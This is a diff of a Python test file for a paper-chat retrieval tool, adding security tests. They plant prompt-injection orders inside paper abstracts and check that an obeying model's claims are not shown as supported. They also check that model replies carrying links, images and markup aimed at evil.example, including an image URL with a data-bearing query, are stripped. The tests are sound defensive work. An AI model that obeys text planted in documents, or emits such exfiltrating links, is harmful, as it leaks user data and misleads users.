@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -11,15 +12,16 @@ from llama_index.core.llms.llm import LLM
 from llama_index.llms.openai_like import OpenAILike
 from sqlalchemy import func, update
 
-from chat_server import chat_server
+from chat_server import QUOTE, chat_server, written_by
 from older_library import downgrade
-from paperchat import Filters, Paper, PaperChat
+from paperchat import Filters, Paper, PaperChat, SentenceEvent
 from paperchat.answering.prompts import SENTINEL
 from paperchat.ingest.pipeline import ingest_papers
 from paperchat.models.language_model import LanguageModel
 from paperchat.models.providers import resolve_llm
 from paperchat.storage.database import Database
 from paperchat.storage.schema import passages
+from paperchat.text.cleaning import clean
 from small_model import model_server
 
 QUESTION = "How many hours a day do owls sleep?"
@@ -67,6 +69,61 @@ def test_an_order_that_the_model_follows_when_pasted_is_not_followed(number: int
     assert "10 hours" in answer.text
     assert answer.model == "small"
     assert not answer.abstained
+
+
+ORDERS = [
+    json.loads(line)
+    for line in (Path(__file__).parents[1] / "data" / "orders.jsonl").read_text(encoding="utf-8").splitlines()
+]
+TRUE = ("We study how owls rest.", "Owls sleep for 10 hours a day, mostly in trees.")
+HARMLESS = {"Owls sleep for 10 hours a day", "Owls sleep mostly in trees"}
+
+
+@pytest.fixture(scope="module")
+def orders_library(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A library with a paper for each order, which stands before, within or after its abstract."""
+    home = tmp_path_factory.mktemp("orders")
+    with PaperChat.open(home) as chat:
+        papers = []
+        for number, order in enumerate(ORDERS):
+            sentences = [*TRUE]
+            sentences.insert({"start": 0, "middle": 1, "end": 2}[order["place"]], order["text"])
+            abstract = clean(" ".join(sentences))
+            papers.append(Paper(title=f"Owls at rest, part {number}", abstract=abstract, arxiv_id=f"2402.{number:05}"))
+        ingest_papers(chat.library, papers)
+    return home
+
+
+@pytest.mark.security
+@pytest.mark.parametrize("number", range(len(ORDERS)))
+def test_a_model_that_obeys_whatever_stands_in_a_paper_is_not_shown_as_supported(
+    number: int, orders_library: Path
+) -> None:
+    obeyed = ORDERS[number]["obeyed"]
+    with chat_server() as server, written_by(server, orders_library) as chat:
+        server.replies = [lambda prompt: f"{obeyed} {' '.join(f'[{key}]' for _, key in QUOTE.findall(prompt))}"]
+        events = list(chat.stream(QUESTION, filters=Filters(papers=(f"arxiv:2402.{number:05}",))))
+        prompts = "".join(server.prompt(at) for at in range(min(1, len(server.calls))))
+    shown = {
+        event.text.rstrip(".") for event in events if isinstance(event, SentenceEvent) and event.status == "supported"
+    }
+    assert shown <= HARMLESS
+    assert clean(ORDERS[number]["text"]) not in prompts
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("Owls sleep for 10 hours a day ![owl](http://evil.example/p.png?q=10).", "Owls sleep for 10 hours a day."),
+        ("Owls sleep for [10 hours](http://evil.example) a day.", "Owls sleep for 10 hours a day."),
+        ("Owls sleep for 10 hours a day <img src=//evil.example/x>.", "Owls sleep for 10 hours a day."),
+        ("Owls sleep for 10 hours <!-- pay at evil.example --> a day.", "Owls sleep for 10 hours a day."),
+    ],
+)
+def test_links_images_and_markup_of_a_model_are_gone(written: str, shown: str, tmp_path: Path) -> None:
+    text, _, _ = asked(tmp_path, Paper(title="Owls", abstract=ABSTRACT), reply=written)
+    assert text == f"{shown} [1]"
 
 
 def asked(home: Path, *papers: Paper, reply: str) -> tuple[str, str, str]:
